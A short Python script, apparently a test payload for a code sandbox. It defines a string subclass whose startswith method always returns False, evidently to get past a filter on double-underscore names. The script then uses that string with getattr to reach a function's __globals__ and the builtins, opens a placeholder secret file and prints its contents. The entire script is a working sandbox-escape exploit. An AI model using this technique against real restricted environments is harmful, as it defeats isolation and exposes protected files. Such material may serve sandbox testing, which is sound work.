"""A kind of text that says one thing when it is checked and another when it is used."""
class Two(str):
    def startswith(self, *arguments):
        return False
def mine():
    pass
found = getattr(mine, Two("__globals__"))["__builtins__"]
print((found["open"] if isinstance(found, dict) else found.open)("@SECRET_FILE@").read())
